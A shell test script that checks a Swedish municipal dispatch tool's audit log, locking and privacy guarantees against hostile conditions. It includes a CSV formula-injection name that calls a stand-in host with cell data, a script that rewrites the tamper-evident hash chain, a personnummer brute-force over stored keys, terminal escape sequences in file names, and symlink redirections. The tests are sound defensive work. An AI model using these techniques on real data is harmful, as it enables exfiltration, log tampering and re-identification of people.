# promises.sh -- sourced by run.sh after send.sh: the promises of SPEC 6 and 7
# tried the way a hostile operator would break them.
#
#   - two runs of send at once against one log: every försändelse is printed
#     once across both runs (the run lock, audit_lock_run);
#   - a full disk under the audit log: nothing is handed over that could not
#     be recorded, the run exits 4, and once there is room a rerun sends what
#     is missing and nothing twice (audit_failed, recorded() in deliver.c);
#   - the log alone does not give a personnummer back: the recipient keys
#     are HMACs with the key file, and 10,000 guesses without it find nothing
#     (and with it they do, so the test can fail);
#   - a key file that does not belong to the log stops the run;
#   - a run started from another working directory, with the configuration
#     named by a relative path, finds what the first run recorded.
# Needs mkwork, send_in and printed from send.sh.

P=$tmp/promises
mkdir -p "$P"
absbin=$(cd "$(dirname "$bin")" && pwd)/$(basename "$bin")
big=$P/paket-200
python3 tests/bench/gen_session.py 200 "$big" >/dev/null

# ---- two runs at once ----
for delay in 0 0.3; do
	W=$P/concurrent-$delay
	mkwork "$W"
	"$bin" send --config "$W/expediera.conf" "$big" >"$P/a.out" 2>"$P/a.err" &
	pa=$!
	sleep "$delay"
	"$bin" send --config "$W/expediera.conf" "$big" >"$P/b.out" 2>"$P/b.err" &
	pb=$!
	wait $pa
	ra=$?
	wait $pb
	rb=$?
	n=$(printed "$W" | wc -l)
	d=$(printed "$W" | uniq -d | wc -l)
	if [ "$ra" -eq 0 ] && [ "$rb" -eq 0 ] && [ "$n" -eq 200 ] && [ "$d" -eq 0 ]; then ok; else
		bad "promises/two sends at once (start $delay s apart): exit $ra and $rb, $n printed, $d twice"
		tail -n 3 "$P/a.err" "$P/b.err"
	fi
	if "$bin" audit verify --config "$W/expediera.conf" >/dev/null 2>&1; then ok; else
		bad "promises/two sends at once: audit verify"
	fi
done
# The second waits, and says so.
if grep -q 'en annan körning skickar' "$P/a.err" "$P/b.err"; then ok; else
	bad "promises/two sends at once: the waiting run said nothing"
fi

# ---- a full disk under the audit log ----
# The log on a tmpfs of 160 KiB in a mount namespace of its own; the print
# folder beside it has room.  After the run, the tmpfs is made larger and the
# run repeated, in the same namespace.
W=$P/fulldisk
mkwork "$W"
mkdir -p "$W/logdisk"
sed -i "s|^database = .*|database = $W/logdisk/expediera.db|" "$W/expediera.conf"
cat >"$P/fulldisk.sh" <<'SH'
set -u
bin=$1 W=$2 pkg=$3
mount -t tmpfs -o size=160k,mode=0700 tmpfs "$W/logdisk" || exit 90
"$bin" send --config "$W/expediera.conf" "$pkg" >"$W/first.out" 2>"$W/first.err"
echo $? >"$W/first.rc"
ls "$W/out/print" 2>/dev/null | grep -c '\.pdf$' >"$W/first.batches"
mount -o remount,size=64m "$W/logdisk" || exit 91
"$bin" send --config "$W/expediera.conf" "$pkg" >"$W/second.out" 2>"$W/second.err"
echo $? >"$W/second.rc"
"$bin" send --config "$W/expediera.conf" "$pkg" >"$W/third.out" 2>"$W/third.err"
echo $? >"$W/third.rc"
"$bin" audit verify --config "$W/expediera.conf" >"$W/verify.out" 2>&1
echo $? >"$W/verify.rc"
SH
if unshare -m sh "$P/fulldisk.sh" "$absbin" "$W" "$big" 2>"$P/fulldisk.err"; then
	first=$(cat "$W/first.rc")
	n=$(printed "$W" | wc -l)
	d=$(printed "$W" | uniq -d | wc -l)
	# The disk is too small for the whole run: it must stop with exit 4.
	if [ "$first" -eq 4 ] && grep -q 'granskningsloggen .* kunde inte skrivas' "$W/first.err"; then
		ok
	else
		bad "promises/full disk: first run exit $first, want 4"
		tail -n 5 "$W/first.err"
	fi
	if [ "$(cat "$W/second.rc")" -eq 0 ] && [ "$n" -eq 200 ] && [ "$d" -eq 0 ]; then ok; else
		bad "promises/full disk: after room was made, exit $(cat "$W/second.rc"), $n printed, $d twice"
		tail -n 5 "$W/second.err"
	fi
	if [ "$(cat "$W/third.rc")" -eq 0 ] && grep -q ' 0 skickade, ' "$W/third.out" &&
	    [ "$(cat "$W/verify.rc")" -eq 0 ]; then ok; else
		bad "promises/full disk: third run or audit verify"
		cat "$W/third.out" "$W/verify.out"
	fi
else
	bad "promises/full disk: could not mount a tmpfs"
	cat "$P/fulldisk.err"
fi

# ---- no personnummer from the log alone ----
W=$P/hmac
mkwork "$W"
send_in "$W" "$ex"
key=$W/out/expediera.key
if [ -f "$key" ] && [ "$(stat -c %a "$key")" = 600 ]; then ok; else
	bad "promises/hmac: no key file made 0600 beside the log"
fi
# The database holds no personnummer, not even in the keys' reach: for every
# recipient of the example, the masked number in the events leaves 10,000
# candidates; the key of each candidate without the secret is in no row, and
# with the secret exactly the right one is.
sqlite3 "$W/out/expediera.db" "SELECT recipient FROM outbox" >"$P/keys"
python3 - "$ex" "$key" "$P/keys" >"$P/hmac.out" 2>&1 <<'PY'
import glob, hashlib, hmac, re, sys
ex, keyfile, keys = sys.argv[1:4]
stored = set(l.strip() for l in open(keys) if l.strip())
secret = bytes.fromhex(open(keyfile).read().strip())
proto = open(ex + "/protokoll.xml", encoding="utf-8").read()
head = {t: re.search("<%s>([^<]*)</%s>" % (t, t), proto).group(1)
        for t in ("kommun", "organ", "sammantradesdatum")}
paras = dict((m.group(2), m.group(1)) for m in re.finditer(r'<paragraf nr="(\d+)" dnr="([^"]+)"', proto))
found_plain = found_keyed = tried = 0
for sheet in sorted(glob.glob(ex + "/forsattsblad/*.xml")):
    x = open(sheet, encoding="utf-8").read()
    dnr = re.search(r'<arende dnr="([^"]+)"', x).group(1)
    nr = paras.get(dnr)
    if nr is None:
        continue
    for m in re.finditer(r'<mottagare roll="([^"]+)"[^>]*>(.*?)</mottagare>', x, re.S):
        roll, body = m.group(1), m.group(2)
        p = re.search(r"<personnummer>(\d{8})-?(\d{4})</personnummer>", body)
        if not p:
            continue
        date8 = p.group(1)
        for serial in range(10000):
            cand = "%s%04d" % (date8, serial)
            msg = "%s|%s|%s|%s|%s|%s|id:%s" % (head["kommun"], head["organ"],
                head["sammantradesdatum"], nr, dnr, roll, cand)
            tried += 1
            if hashlib.sha256(msg.encode()).hexdigest()[:32] in stored:
                found_plain += 1
            if cand == date8 + p.group(2):
                if hmac.new(secret, msg.encode(), hashlib.sha256).hexdigest()[:32] in stored:
                    found_keyed += 1
print(tried, found_plain, found_keyed)
PY
read -r tried plain keyed <"$P/hmac.out"
if [ "${tried:-0}" -gt 100000 ] && [ "${plain:-1}" -eq 0 ] && [ "${keyed:-0}" -gt 10 ]; then ok; else
	bad "promises/hmac: $(cat "$P/hmac.out") (tried, found without the key, found with it)"
fi
if sqlite3 "$W/out/expediera.db" .dump | unmasked; then
	bad "promises/hmac: a personnummer in clear in the database"
else ok; fi

# ---- another key file stops the run ----
mv "$key" "$key.right"
send_in "$W" "$ex"
if [ "$(rc)" -eq 4 ] && grep -q 'hör inte till granskningsloggen' "$tmp/err"; then ok; else
	bad "promises/another key: exit $(rc), want 4"
	cat "$tmp/err"
fi
mv "$key.right" "$key"
chmod 644 "$key"
send_in "$W" "$ex"
if [ "$(rc)" -eq 4 ] && grep -q 'kan läsas av andra' "$tmp/err"; then ok; else
	bad "promises/key readable by others: exit $(rc), want 4"
fi
chmod 600 "$key"
send_in "$W" "$ex"
# (exit 3: the example holds one recipient on purpose)
if [ "$(rc)" -eq 3 ] && grep -q ' 0 skickade, ' "$tmp/out"; then ok; else
	bad "promises/the right key again: exit $(rc)"
	cat "$tmp/out" "$tmp/err"
fi

# ---- from another working directory ----
W=$P/cwd
mkwork "$W"
mkdir -p "$W/a"
(cd "$W" && EXPEDIERA_CRASH_AT=batch-written "$absbin" send --config expediera.conf \
    "$top/$ex" >/dev/null 2>&1)
(cd / && "$absbin" send --config "$W/expediera.conf" "$top/$ex" >"$tmp/out" 2>"$tmp/err")
echo $? >"$tmp/rc"
n=$(printed "$W" | wc -l)
d=$(printed "$W" | uniq -d | wc -l)
if [ "$(rc)" -eq 3 ] && [ "$d" -eq 0 ] && [ "$n" -gt 0 ]; then ok; else
	bad "promises/another working directory: $n printed, $d twice"
	cat "$tmp/out" "$tmp/err"
fi

# ---- a log rewritten from the start is caught by the head kept elsewhere ----
# Someone with the sqlite3 tool drops the triggers, changes an event (a route
# "print" made "digital"), recomputes every hash after it by the documented
# formula and moves the chain head: plain `audit verify` cannot tell, and
# `audit verify --head` with the head that send printed does.
W=$P/rewrite
mkwork "$W"
send_in "$W" "$ex"
head=$(sed -n 's/.*loggens huvud: *\([0-9]*:[0-9a-f]\{64\}\).*/\1/p' "$tmp/out")
# The expedieringslista, filed with the protocol, carries a head too.
listhead=$(pdftotext -raw "$W"/out/arkiv/expedieringslista-*.pdf - 2>/dev/null | tr '\n' ' ' |
    sed -n 's/.*huvud när listan skrevs: \([0-9]*:[0-9a-f]\{64\}\)\..*/\1/p')
if [ -n "$listhead" ] && "$bin" audit verify --head "$listhead" --config "$W/expediera.conf" \
    >/dev/null 2>&1; then ok; else bad "promises/the expedieringslista carries no head that verifies ('$listhead')"; fi
db=$W/out/expediera.db
python3 - "$db" >"$P/rewrite.out" 2>&1 <<'PY'
import hashlib, sqlite3, sys
db = sqlite3.connect(sys.argv[1])
for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
    db.execute("DROP TRIGGER %s" % name)
def F(v):
    if v is None:
        return b"\0"
    b = str(v).encode()
    return b"\1" + len(b).to_bytes(8, "big") + b
target = db.execute("SELECT min(id) FROM event WHERE kind = 'route' AND data LIKE '%\"route\":\"print\"%'").fetchone()[0]
db.execute("UPDATE event SET data = replace(data, '\"route\":\"print\"', '\"route\":\"digital\"') WHERE id = ?", (target,))
prev = "0" * 64
for (i, batch, ts, kind, fs, data) in db.execute("SELECT id, batch, ts, kind, forsandelse, data FROM event ORDER BY id").fetchall():
    h = hashlib.sha256(F(prev) + F(i) + F(batch) + F(ts) + F(kind) + F(fs) + F(data)).hexdigest()
    db.execute("UPDATE event SET prev_hash = ?, hash = ? WHERE id = ?", (prev, h, i))
    prev = h
db.execute("UPDATE chain_head SET hash = ?", (prev,))
db.commit()
print(target)
PY
"$bin" audit verify --config "$W/expediera.conf" >"$P/plain.out" 2>&1
plain=$?
"$bin" audit verify --head "$head" --config "$W/expediera.conf" >"$P/head.out" 2>&1
withhead=$?
"$bin" audit verify --head "$listhead" --config "$W/expediera.conf" >/dev/null 2>&1
withlist=$?
if [ -n "$head" ] && [ "$plain" -eq 0 ] && [ "$withhead" -eq 1 ] && [ "$withlist" -eq 1 ] &&
    grep -q 'finns inte i loggen' "$P/head.out"; then ok; else
	bad "promises/rewritten log: head '$head', plain verify exit $plain (the rewrite should fool it), with --head exit $withhead"
	cat "$P/rewrite.out" "$P/plain.out" "$P/head.out"
fi

# ---- a spelling fix of a name is the same person: nothing is sent again ----
W=$P/spelling
mkwork "$W"
cp -r "$ex" "$P/stavning"
send_in "$W" "$P/stavning"
sed -i 's|<namn>Maria Sjöberg</namn>|<namn>Maria Sjöbergh</namn>|' "$P/stavning/forsattsblad/sn-2026-387.xml"
send_in "$W" "$P/stavning"
if grep -q ' 0 skickade, ' "$tmp/out"; then ok; else
	bad "promises/a spelling fix sent again"
	cat "$tmp/out"
fi

# ---- two audit logs share one print folder: nothing replaces anything ----
# (a print service, or a log recreated): both runs' batches and manifests are
# there, each whole.
W=$P/twologs
mkwork "$W"
sed "s|^database = .*|database = $W/andra.db|" "$W/expediera.conf" >"$W/andra.conf"
sed -i "s|^folder = out/|folder = $W/out/|" "$W/andra.conf"
send_in "$W" "$ex"
sums1=$(cd "$W/out/print" && sha256sum -- * | sort)
"$bin" send --config "$W/andra.conf" "$ex" >"$tmp/out" 2>"$tmp/err"
n=$(ls "$W"/out/print/*.pdf | wc -l)
gone=$(cd "$W/out/print" && printf '%s\n' "$sums1" | sha256sum -c --quiet 2>&1 | wc -l)
if [ "$n" -eq 4 ] && [ "$gone" -eq 0 ] && [ "$(ls "$W"/out/print/*.csv | wc -l)" -eq 4 ]; then ok; else
	bad "promises/two logs, one print folder: $n batches, $gone files of the first run changed"
	ls -l "$W/out/print"
fi

# ---- two organs meet the same day with the same § numbers ----
W=$P/organs
mkwork "$W"
cp -r "$ex" "$P/organ2"
sed -i 's|<organ>Socialnämndens individutskott</organ>|<organ>Socialnämndens arbetsutskott</organ>|' "$P/organ2/protokoll.xml"
send_in "$W" "$ex"
a1=$(ls "$W"/out/arkiv/*-protokollsutdrag.pdf | wc -l)
sums1=$(cd "$W/out/arkiv" && sha256sum -- *-protokollsutdrag.* | sort)
send_in "$W" "$P/organ2"
a2=$(ls "$W"/out/arkiv/*-protokollsutdrag.pdf | wc -l)
gone=$(cd "$W/out/arkiv" && printf '%s\n' "$sums1" | sha256sum -c --quiet 2>&1 | wc -l)
if [ "$a1" -gt 0 ] && [ "$a2" -eq $((2 * a1)) ] && [ "$gone" -eq 0 ]; then ok; else
	bad "promises/two organs, same §: $a1 then $a2 archive copies, $gone of the first changed"
fi

# ---- formulas in CSV files: a name a spreadsheet would run ----
W=$P/csv
mkwork "$W"
cp -r "$ex" "$P/formel"
sed -i 's|<namn>Maria Sjöberg</namn>|<namn>=HYPERLINK("http://x/"\&amp;A1;"klicka")</namn>|' "$P/formel/forsattsblad/sn-2026-387.xml"
send_in "$W" "$P/formel"
if grep -h 'HYPERLINK' "$W"/out/print/*.csv "$W"/out/arkiv/*.csv >"$P/formula.txt" &&
    ! grep -Eq '(^|,)=' "$P/formula.txt" && grep -q "\"'=HYPERLINK" "$P/formula.txt"; then ok; else
	bad "promises/csv: a formula reached a CSV unquoted"
	cat "$P/formula.txt"
fi

# ---- names from outside cannot drive the terminal ----
W=$P/escape
mkwork "$W"
SP=$P/escape-spool
mkdir -p "$SP/inkommande"
esc=$(printf 'paket-\033]0;titel\007-\033[2J')
cp -r "$ex" "$SP/inkommande/$esc"
touch "$SP/inkommande/$esc/KLAR"
"$bin" watch --once --config "$W/expediera.conf" "$SP" >"$tmp/out" 2>"$tmp/err"
if ! grep -q "$(printf '\033')" "$tmp/out" "$tmp/err" && grep -q 'paket-?' "$tmp/out"; then ok; else
	bad "promises/escape sequences in a package name reached the terminal"
fi
"$bin" check "$SP/klara/$esc" >"$tmp/out" 2>"$tmp/err"
if ! grep -q "$(printf '\033')" "$tmp/out" "$tmp/err"; then ok; else
	bad "promises/escape sequences in check's summary"
fi

# ---- links are not followed ----
# A package in the spool that is a link to a directory elsewhere is left
# alone; a link in place of a sender's hand-over folder gets nothing.
W=$P/links
mkwork "$W"
SP=$P/links-spool
mkdir -p "$SP/inkommande" "$P/elsewhere"
cp -r "$ex" "$P/elsewhere/paket"
touch "$P/elsewhere/paket/KLAR"
ln -s "$P/elsewhere/paket" "$SP/inkommande/lank"
"$bin" watch --once --config "$W/expediera.conf" "$SP" >"$tmp/out" 2>"$tmp/err"
if [ -L "$SP/inkommande/lank" ] && [ ! -e "$SP/klara/lank" ] && [ ! -e "$W/out/print" ] &&
    grep -q 'symbolisk länk' "$tmp/err"; then ok; else
	bad "promises/links: a linked package in the spool was followed"
fi
mkdir -p "$W/out/manuell" "$P/stolen"
ln -s "$P/stolen" "$W/out/manuell/lena-forsberg"
send_in "$W" "$ex"
if [ -z "$(ls -A "$P/stolen")" ] && grep -q 'inte en katalog' "$tmp/err"; then ok; else
	bad "promises/links: a hand-over went through a link ($(ls "$P/stolen"))"
fi

# ---- what killed runs left is swept ----
W=$P/sweep
mkwork "$W"
mkdir -p "$W/out/print"
sleep 30 & live=$!
dead=$(sh -c 'echo $$')
printf 'personuppgifter' >"$W/out/print/.utskrift-x.pdf.tmp$dead"
printf 'personuppgifter' >"$W/out/print/.utskrift-y.pdf.tmp$live"
printf 'personuppgifter' >"$W/out/print/.utskrift-z.pdf.tmp$dead.new"
touch -d '1 hour ago' "$W"/out/print/.utskrift-*
send_in "$W" "$ex"
kill "$live" 2>/dev/null
if [ ! -e "$W/out/print/.utskrift-x.pdf.tmp$dead" ] && [ -e "$W/out/print/.utskrift-y.pdf.tmp$live" ] &&
    [ -e "$W/out/print/.utskrift-z.pdf.tmp$dead.new" ]; then ok; else
	bad "promises/sweep: temporary files of dead runs left, or a live one removed"
	ls -la "$W/out/print"
fi

# ---- the Skatteverket manifest does not name the protected person ----
W=$P/skv
mkwork "$W"
send_in "$W" "$ex"
m=$(ls "$W"/out/print/skatteverket-*.csv 2>/dev/null | head -n 1)
if [ -n "$m" ] && [ "$(tail -n +2 "$m" | wc -l)" -gt 0 ] &&
    [ -z "$(tail -n +2 "$m" | cut -d, -f1 | grep -v -- '-skyddad\.pdf$')" ] &&
    [ -z "$(tail -n +2 "$m" | cut -d, -f2 | grep -v '^(skyddad identitet)$')" ]; then ok; else
	bad "promises/the Skatteverket manifest names a protected person"
	cat "$m"
fi

# ---- a lista that could not be written is not named as written ----
W=$P/nolista
mkwork "$W"
mkdir -p "$W/out"
printf 'inte en katalog' >"$W/out/arkiv"
send_in "$W" "$ex"
if ! grep -q 'expedieringslista:' "$tmp/out" && grep -q 'kan inte' "$tmp/err"; then ok; else
	bad "promises/the summary named an expedieringslista that was not written"
	cat "$tmp/out"
fi
